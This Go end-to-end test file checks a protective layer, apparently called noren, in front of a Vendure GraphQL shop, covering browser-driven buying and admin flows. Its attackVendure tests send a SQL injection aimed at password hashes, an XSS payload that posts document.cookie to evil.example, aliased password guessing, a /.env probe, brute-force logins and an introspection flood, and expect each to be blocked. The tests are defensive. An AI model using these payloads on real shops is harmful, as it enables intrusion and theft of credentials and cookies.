package e2e

import (
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
)

// TestRealVendure stands before a headless shop: one address for everything, all
// of it GraphQL. It runs with `make e2e-real`, which installs Vendure from npm.
func TestRealVendure(t *testing.T) {
	if os.Getenv("NOREN_REAL") == "" {
		t.Skip("needs Vendure; run it with: make e2e-real")
	}
	shopPort, norenPort := freePort(t), freePort(t)
	public := fmt.Sprintf("http://127.0.0.1:%d", norenPort)
	shop := start(t, filepath.Join("..", "scripts", "vendure"), filepath.Join(t.TempDir(), "shop"), fmt.Sprint(shopPort))
	password := shop.await("password ", 8*time.Minute) // the first run installs it
	shop.await("ready ", 20*time.Second)
	upstream := fmt.Sprintf("http://127.0.0.1:%d", shopPort)

	t.Run("detected", func(t *testing.T) { detectReal(t, upstream, "Vendure", "vendure") })
	dir := t.TempDir()
	serveReal(t, dir, norenPort, upstream, "vendure")
	awaitHTTP(t, public+"/store", 20*time.Second)

	// One after the other: the attacks come last, because they end in a ban.
	t.Run("buyer", func(t *testing.T) { buyFromVendure(t, public) })
	t.Run("owner", func(t *testing.T) { ownVendure(t, public, password) })
	t.Run("nothing was stopped so far", func(t *testing.T) { noStops(t, dir) })
	t.Run("attacks", func(t *testing.T) { attackVendure(t, public) })
}

// said waits until the storefront's line reads as it should.
func (b *browser) said(sel, want string) string {
	b.t.Helper()
	deadline := time.Now().Add(20 * time.Second)
	for {
		got := b.text(sel)
		if strings.Contains(got, want) {
			return got
		}
		if time.Now().After(deadline) {
			b.shot("failed")
			b.t.Fatalf("%s reads %.300q, want %q", sel, got, want)
		}
		time.Sleep(50 * time.Millisecond)
	}
}

func (b *browser) click(sel string) {
	b.t.Helper()
	b.do(chromedp.WaitVisible(chromedp.CSS(sel)), chromedp.Click(chromedp.CSS(sel)))
}

// search types into the storefront's search and waits for the count.
func (b *browser) search(term, want string) {
	b.t.Helper()
	b.fill("#search [name=term]", term)
	b.click("#search button")
	b.said("#said", want)
}

func buyFromVendure(t *testing.T, public string) {
	b := openBrowser(t, 390, 1600)
	b.open(public + "/store")
	b.said("#said", "件")
	// What buyers type, and what looks like more than it is.
	for _, term := range []string{"急須（赤）メーカー/型番", "select セット & union 100%", "O'Reilly \"drop\" table"} {
		b.search(term, "件")
	}
	b.search("laptop", "1件")
	b.shot("search")
	b.click("#products button")
	b.said("#cart", "1点")
	for name, value := range map[string]string{"lastName": "髙橋", "firstName": "花子", "emailAddress": "hanako@customer.example", "password": "Tea-and-cups-88!#%"} {
		b.fill("#register [name="+name+"]", value)
	}
	b.click("#register button")
	b.said("#said", "できました")
	b.fill("#login [name=username]", "hanako@customer.example")
	b.fill("#login [name=password]", "wrong")
	b.click("#login button")
	b.said("#said", "INVALID_CREDENTIALS_ERROR")
	b.fill("#login [name=password]", "Tea-and-cups-88!#%")
	b.click("#login button")
	b.said("#me", "髙橋 花子 さま")
	for name, value := range map[string]string{
		"fullName": "髙橋 花子", "postalCode": "160-0022", "province": "東京都", "city": "新宿区", "streetLine1": "御成橋町1−2−3 メゾン＜暖簾＞ #205", "phoneNumber": "03-0000-0000",
	} {
		b.fill("#checkout [name="+name+"]", value)
	}
	b.click("#checkout button")
	order := b.said("#order", "Payment")
	b.shot("order")
	t.Logf("%s", order)
}

func ownVendure(t *testing.T, public, password string) {
	b := openBrowser(t, 1400, 1000)
	b.open(public + "/admin/")
	b.fill("input[name=username], #login_username", "superadmin")
	b.fill("input[name=password], #login_password", password)
	b.shot("admin-login")
	b.click("button[type=submit]")
	b.do(chromedp.WaitVisible(chromedp.CSS("vdr-main-nav")))
	b.shot("admin")
	b.open(public + "/admin/catalog/products")
	b.said("body", "Wooden Stool")
	b.shot("products")

	b.open(public + "/admin/catalog/products/1")
	b.fill("input[formcontrolname=name]", "ノートPC（13型・日本語キーボード）")
	b.shot("product")
	b.click("vdr-action-bar button.btn-primary, vdr-ab-right button.btn-primary, button.button.primary")
	visitor := openBrowser(t, 390, 844)
	visitor.open(public + "/store")
	name := ""
	for range 50 { // the save takes its time
		if name = visitor.evaluate(`call('{ product(id: "1") { name } }').then(data => data.product.name)`); strings.HasPrefix(name, "ノート") {
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	if name != "ノートPC（13型・日本語キーボード）" {
		b.shot("failed")
		t.Errorf("the customer sees %q", name)
	}

	picture := filepath.Join(t.TempDir(), "急須（赤）.png")
	writePicture(t, picture)
	b.open(public + "/admin/catalog/assets")
	b.do(chromedp.WaitReady(chromedp.CSS("input[type=file]")), chromedp.SetUploadFiles(chromedp.CSS("input[type=file]"), []string{picture}))
	b.said("body", "急須")
	b.shot("assets")
}

// detectReal asks noren what a real shop is.
func detectReal(t *testing.T, upstream, title, preset string) {
	out := runNoren(t, "detect", upstream, "--json")
	var found struct{ Preset, Confidence string }
	if err := json.Unmarshal([]byte(out), &found); err != nil || found.Preset != preset || found.Confidence != "sure" {
		t.Errorf("want %s, sure: %s (%v)", preset, out, err)
	}
	if out := runNoren(t, "--lang", "en", "detect", upstream); !strings.Contains(out, title) {
		t.Errorf("%s", out)
	}
}

func attackVendure(t *testing.T, public string) {
	ask := func(path, query string, vars map[string]any) int {
		body, err := json.Marshal(map[string]any{"query": query, "variables": vars})
		if err != nil {
			t.Fatal(err)
		}
		resp, err := http.Post(public+path, "application/json", strings.NewReader(string(body)))
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		return resp.StatusCode
	}
	search := `query S($in: SearchInput!) { search(input: $in) { totalItems } }`
	login := `mutation L($u: String!, $p: String!) { login(username: $u, password: $p) { __typename } }`
	for name, send := range map[string]func() int{
		"SQL injection in a variable": func() int {
			return ask("/shop-api", search, map[string]any{"in": map[string]any{"term": "1' UNION SELECT password_hash FROM authentication_method-- -"}})
		},
		"XSS in a variable": func() int {
			return ask("/shop-api", `mutation R($in: RegisterCustomerInput!) { registerCustomerAccount(input: $in) { __typename } }`,
				map[string]any{"in": map[string]any{"emailAddress": "a@b.example", "lastName": "<script>fetch('//evil.example/'+document.cookie)</script>"}})
		},
		"XSS in the document": func() int {
			return ask("/shop-api", `mutation { registerCustomerAccount(input: {emailAddress: "a@b.example", lastName: "<img src=x onerror=alert(document.cookie)>"}) { __typename } }`, nil)
		},
		"a thousand passwords under aliases": func() int {
			var b strings.Builder
			for i := range 100 {
				fmt.Fprintf(&b, "a%d: login(username: \"superadmin\", password: \"guess%d\") { __typename } ", i, i)
			}
			return ask("/admin-api", "mutation { "+b.String()+"}", nil)
		},
		"the mailbox": func() int { return ask("/mailbox/x", "{ a }", nil) },
		"secret file": func() int { return ask("/.env", "{ a }", nil) },
	} {
		t.Run(name, func(t *testing.T) {
			if status := send(); status != 403 && status != 400 {
				t.Errorf("answered %d, want it stopped", status)
			}
		})
	}
	t.Run("brute force", func(t *testing.T) {
		reached := 0
		for i := range 60 {
			if ask("/shop-api", login, map[string]any{"u": "hanako@customer.example", "p": fmt.Sprint("guess", i)}) == 200 {
				reached++
			}
		}
		if reached > 30 {
			t.Errorf("%d of 60 guesses reached the shop, want at most 30", reached)
		}
		t.Logf("brute force: %d of 60 guesses reached the shop", reached)
	})
	t.Run("introspection flood", func(t *testing.T) {
		limited := 0
		for range 200 {
			if ask("/shop-api", "{ __schema { types { name fields { name } } } }", nil) != 200 {
				limited++
			}
		}
		if limited < 100 {
			t.Errorf("%d of 200 were limited, want most", limited)
		}
	})
}
